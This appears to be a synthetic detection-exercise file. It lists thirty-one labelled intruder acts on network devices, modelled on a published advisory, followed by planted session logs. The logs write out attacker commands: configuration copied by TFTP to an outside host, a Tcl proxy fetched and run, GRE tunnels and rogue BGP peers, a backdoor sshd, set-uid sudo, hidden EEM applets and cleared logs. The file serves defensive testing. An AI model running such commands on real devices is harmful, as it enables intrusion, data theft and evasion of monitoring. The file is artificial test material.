# The same intruder in the wider estate, planted from the published description of AA25-239A, in UTC.
# 192.0.2.77 logs in, .53 resolves names, .201 and .202 take copies, .203 keeps an image, .204 routes.
# 104.194.150.26 and 45.61.133.79 are published indicators of AA25-239A.

act B01 indicator ce-mar-01 | The emergency account logs in over SSH from a published indicator address, at night, and reads the configuration.
act B02 ST-28 agg-ner-01 | A router-to-router login: the emergency account comes to agg-ner-01 from ce-mar-01's own address; an engineer's account does the same in September.
act B03 ST-11 ST-12 agg-ner-01 | A GRE tunnel to an outside host, and a static route into it, in July.
act B04 eem agg-ner-01 | An EEM applet swallows the commands that would show the intruder, and their output.
act B05 failed-then-success pe-tha-01 | Five failed logins of an engineer from an outside address within two minutes, then a successful one.
act B06 flow-export pe-tha-01 | Flow records go to a collector outside.
act B07 name-server pe-tha-01 | The name server is replaced by one outside.
act B08 ST-11 ST-12 pe-tha-01 | A GRE tunnel to the same outside host and a static route into it.
act B09 ST-22 pe-tha-01 | The log is read, cleared, and the session left within two minutes.
act B10 indicator ce-mar-01 | A line of the log names a published indicator address as the source of a permitted SSH connection.
act B11 ST-28 pe-ner-01 | A router-to-router login, from pe-tha-01's own address.
act B12 ST-04 pe-ner-01 | The shell of the host is opened and its own SSH server, sshd_operns, started on port 57722; later somebody comes in through it.
act B13 ST-05 pe-ner-01 | A Linux user is made on the host, sudo is opened to it and made set-uid.
act B14 lawful-intercept pe-ner-01 | An SNMP user of the lawful-interception group is added, and its notifications go to an address outside that no other device uses.
act B15 bgp-peer pe-ner-01 | A new routing neighbour outside, many hops away.
act B16 jump-host dc-kal-01 | An engineer's account logs in from the jump host's address while nobody had a session on any jump host.
act B17 ST-07 dc-kal-01 | Guest Shell is enabled and entered, and commands of the switch are run from within it (dohost, chvrf).
act B18 ST-16 dc-kal-01 | A new account with full rights and a public key for it.
act B19 ST-14 dc-kal-01 | Logins ask the local accounts only, and accounting stays on the switch: ISE hears no more of it.
act B20 ST-22 dc-kal-01 | The log file is read, cleared, and the session left within two minutes.
act B21 ST-24 ST-28 dc-kal-02 | A loopback is made, used as the source of SSH to agg-ner-01, and removed again within the hour.
act B22 ST-37 dc-kal-02 | A virtual service that nobody approved is installed and activated.
act B23 ST-37 agg-ner-01 | A hosted application that nobody approved is installed and started.
act B24 ST-27 agg-ner-01 | Ten ping, telnet and ssh commands to seven targets in eight minutes, one of them telnet to port 22.
act B25 ST-32 rtr-tha-01 | A Tcl proxy is fetched and run.
act B26 boot-url rtr-tha-01 | The next boot takes an image from an outside host.
act B27 ST-30 rtr-tha-01 | A read-write community with a default name appears, without an access list.
act B28 ST-21 rtr-tha-01 | The running configuration is copied to an outside host.
act B29 ST-28 rtr-tha-01 | A router-to-router login, from agg-ner-01's own address.
act B30 ST-28 dc-kal-02 | The emergency account comes from pe-ner-01's own address; no command there shows it, since it comes from the shell of the host.
act B31 outside-login pe-tha-01 | An engineer's account logs in from an outside address that is neither jump host nor robot.

session ce-mar-01 2026-07-11 03:12:20 breakglass 104.194.150.26 [B01]
03:12:50 [B01] terminal length 0
03:13:20 [B01] show running-config
03:15:02 show ip route summary
03:18:11 [B02] ssh -l breakglass 10.20.0.61
03:58:40 exit

session agg-ner-01 2026-07-11 03:18:25 breakglass 10.20.0.62 [B02]
03:19:10 show ip interface brief
03:20:02 configure terminal
03:20:30 [B03] interface Tunnel88
03:20:52 [B03] ip address 10.10.12.13 255.255.255.252
03:21:10 [B03] tunnel source Loopback0
03:21:34 [B03] tunnel destination 192.0.2.77
03:22:20 [B03] ip route 198.51.100.224 255.255.255.240 Tunnel88
03:24:02 [B04] event manager applet telemetry-sync
03:24:31 [B04] event cli pattern "show (users|ip route|interfaces description)" sync no skip yes
03:24:58 [B04] action 1.0 puts " "
03:25:20 end
03:26:02 write memory
03:57:10 exit

session ce-mar-01 2026-09-26 01:24:10 breakglass 104.194.150.26 [B01]
01:25:02 [B01] terminal length 0
01:27:50 [B02] ssh -l mreyes 10.20.0.61
02:12:20 exit

session ce-mar-01 2026-09-29 07:09:31 breakglass 104.194.150.26 [B01]
07:10:02 [B01] show ip ospf neighbor
11:02:10 exit

fail pe-tha-01 2026-09-05 02:20:11 [B05] jlind 192.0.2.77
fail pe-tha-01 2026-09-05 02:20:29 [B05] jlind 192.0.2.77
fail pe-tha-01 2026-09-05 02:20:50 [B05] jlind 192.0.2.77
fail pe-tha-01 2026-09-05 02:21:14 [B05] jlind 192.0.2.77
fail pe-tha-01 2026-09-05 02:21:40 [B05] jlind 192.0.2.77
session pe-tha-01 2026-09-05 02:21:58 jlind 192.0.2.77 [B05 B31]
02:22:40 show running-config
02:28:02 configure
02:28:30 [B06] flow exporter-map FEM-B
02:28:41 version v9
02:28:55 transport udp 9995
02:29:10 source Loopback0
02:29:32 [B06] destination 192.0.2.202
02:29:50 ~root
02:30:05 flow monitor-map FMM-IPV4
02:30:22 [B06] exporter FEM-B
02:30:40 ~root
02:31:10 [B07] no domain name-server 10.20.9.72
02:31:28 [B07] domain name-server 192.0.2.53
02:32:40 [B08] interface tunnel-ip77
02:32:58 [B08] ipv4 address 10.10.12.9 255.255.255.252
02:33:10 [B08] tunnel mode gre ipv4
02:33:22 [B08] tunnel source Loopback0
02:33:40 [B08] tunnel destination 192.0.2.77
02:34:02 ~root
02:34:20 router static
02:34:31 address-family ipv4 unicast
02:34:50 [B08] 198.51.100.208/28 tunnel-ip77
02:35:30 [B06 B07 B08] ~commit
02:35:50 end
02:41:20 [B09] show logging
02:41:48 [B09] clear logging
02:42:10 [B09] exit

log ce-mar-01 2026-09-06 01:14:33 [B10] %SEC-6-IPACCESSLOGP: list CUST-EDGE permitted tcp 45.61.133.79(51822) -> 203.0.113.129(22), 1 packet

session pe-tha-01 2026-09-18 00:58:02 jlind 192.0.2.77 [B31]
00:59:20 [B11] ssh 10.20.0.51 username jlind
02:02:40 exit

session pe-ner-01 2026-09-18 00:59:40 jlind 10.20.0.52 [B11]
01:00:30 admin show platform
01:02:10 [B12] run
01:02:11 [B12] ~[shell in root]
01:21:05 ~[shell out root]
01:24:40 configure
01:25:20 [B14] snmp-server user li-relay LI-GROUP v3 auth sha clear {s:intruder-li} priv aes 128 clear {s:intruder-li}
01:25:58 [B14] snmp-server host 192.0.2.201 traps version 3 priv li-relay udp-port 1620
01:28:10 router bgp 64500
01:28:24 [B15] neighbor 192.0.2.204
01:28:40 [B15] remote-as 64666
01:28:52 ebgp-multihop 255
01:29:10 update-source TenGigE0/0/0/5
01:29:24 description backup
01:29:40 address-family ipv4 unicast
01:29:52 route-policy PASS in
01:30:05 route-policy PASS out
01:30:40 [B14 B15] ~commit
01:31:02 end
02:01:10 exit
log pe-ner-01 2026-09-18 01:30:58 [B15] RP bgp[1069]: %ROUTING-BGP-5-ADJCHANGE : neighbor 192.0.2.204 Up (VRF: default) (AS: 64666)
host pe-ner-01 2026-09-18 01:04:12 [B13] useradd[11873]: new group: name=cisco, GID=1009
host pe-ner-01 2026-09-18 01:04:12 [B13] useradd[11873]: new user: name=cisco, UID=1009, GID=1009, home=/home/cisco, shell=/bin/bash
host pe-ner-01 2026-09-18 01:04:40 [B13] passwd[11890]: pam_unix(passwd:chauthtok): password changed for cisco
host pe-ner-01 2026-09-18 01:06:21 [B13] sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/vi /etc/sudoers
host pe-ner-01 2026-09-18 01:07:02 [B13] sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/chmod 4755 /usr/bin/sudo
host pe-ner-01 2026-09-18 01:09:31 [B12] sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/sbin/service sshd_operns start
host pe-ner-01 2026-09-18 01:09:33 [B12] sshd_operns[12044]: Server listening on 0.0.0.0 port 57722.
host pe-ner-01 2026-09-18 01:09:33 [B12] sshd_operns[12044]: Server listening on :: port 57722.
host pe-ner-01 2026-09-18 01:11:50 [B12] sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/sbin/chkconfig --add sshd_operns_global-vrf
host pe-ner-01 2026-09-21 03:40:12 [B12] sshd_operns[20711]: Accepted password for cisco from 192.0.2.77 port 40112 ssh2
host pe-ner-01 2026-09-21 03:40:12 [B12] sshd_operns[20711]: pam_unix(sshd:session): session opened for user cisco by (uid=0)
host pe-ner-01 2026-09-21 03:52:40 [B12] sshd_operns[20711]: pam_unix(sshd:session): session closed for user cisco

session dc-kal-01 2026-09-19 02:40:10 nkostova 10.20.9.11 nojump [B16]
02:41:02 [B17] guestshell enable
02:44:20 [B17] run guestshell
02:46:02 [B17] dohost "show tacacs-server"
02:47:31 [B17] chvrf management ssh cisco@10.20.8.51 -p 57722
02:58:02 configure terminal
02:58:30 [B18] username svc-backup password 0 {s:intruder-nx} role network-admin
02:59:02 [B18] username svc-backup sshkey ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDvesperQuayNight77SharedKeyNx root@localhost
03:01:40 [B19] aaa authentication login default local
03:02:05 [B19] aaa accounting default local
03:02:20 end
03:04:10 copy running-config startup-config
03:06:02 [B20] show logging logfile
03:06:30 [B20] clear logging logfile
03:06:52 [B20] exit
log dc-kal-01 2026-09-19 02:43:41 [B17] %VMAN-2-ACTIVATION_STATE: Successfully activated virtual service 'guestshell+'

session dc-kal-02 2026-09-20 03:10:30 breakglass 10.20.0.51 [B30]
03:11:02 configure terminal
03:11:20 [B21] ~interface loopback77
03:11:38 [B21] ~ip address 10.20.0.177/32
03:11:50 end
03:13:02 [B22] virtual-service install name relay7 package bootflash:relay7.ova
03:15:40 configure terminal
03:15:58 [B22] virtual-service relay7
03:16:12 [B22] activate
03:16:30 end
03:18:20 [B21] ssh mreyes@10.20.0.61 source 10.20.0.177
04:02:10 configure terminal
04:02:24 [B21] ~no interface loopback77
04:02:40 end
04:03:10 exit
log dc-kal-02 2026-09-20 03:14:50 [B22] %VMAN-5-PACKAGE_SIGNING_LEVEL_ON_INSTALL: Package 'relay7.ova' for service container 'relay7' is 'unsigned', cannot verify
log dc-kal-02 2026-09-20 03:17:02 [B22] %VMAN-2-ACTIVATION_STATE: Successfully activated virtual service 'relay7'

session agg-ner-01 2026-09-20 03:18:44 mreyes 10.20.0.177 [B21]
03:20:10 configure terminal
03:20:31 [B23] app-hosting appid netsync
03:20:50 app-vnic management guest-interface 0
03:21:05 [B23] start
03:21:20 end
03:22:02 [B23] app-hosting install appid netsync package bootflash:netsync.tar
03:30:02 [B24] ping 10.20.0.63
03:30:31 [B24] telnet 10.20.0.63 22
03:31:10 [B24] ping 10.21.1.26
03:31:40 [B24] ping 203.0.113.161
03:32:22 [B24] ping 10.20.7.42
03:33:05 [B24] ssh -l mreyes 10.20.7.42
03:34:20 [B24] telnet 10.20.8.71 22
03:35:31 [B24] ping 10.20.0.41
03:36:40 [B24] ssh -l mreyes 10.20.0.41
03:37:52 [B24] ping 10.20.0.11
03:58:10 exit
log agg-ner-01 2026-09-20 03:24:12 [B23] %IM-6-INSTALL_MSG: R0/0: ioxman: app-hosting: Install succeeded: netsync installed successfully Current state is DEPLOYED
log agg-ner-01 2026-09-20 03:25:02 [B23] %IM-6-START_MSG: R0/0: ioxman: app-hosting: Start succeeded: netsync started successfully Current state is RUNNING
fail sw-tha-02 2026-09-20 03:33:09 [B24] mreyes 10.20.0.61

session agg-ner-01 2026-09-26 01:28:02 mreyes 10.20.0.62 [B02]
01:29:20 [B29] ssh -l mreyes 10.20.0.63
02:10:40 exit

session rtr-tha-01 2026-09-26 01:29:44 mreyes 10.20.0.61 [B29]
01:30:20 [B25] copy tftp://192.0.2.203/TCLproxy.tcl flash0:TCLproxy.tcl
01:31:40 [B25] tclsh flash0:TCLproxy.tcl
01:35:02 configure terminal
01:35:20 [B26] boot system tftp://192.0.2.203/c2900-universalk9-mz.SPA.157-3.M8b.bin
01:35:58 [B27] snmp-server community private RW
01:36:20 end
01:36:50 write memory
01:38:10 [B28] copy running-config tftp://192.0.2.203/rtr-tha-01-confg
02:09:02 exit
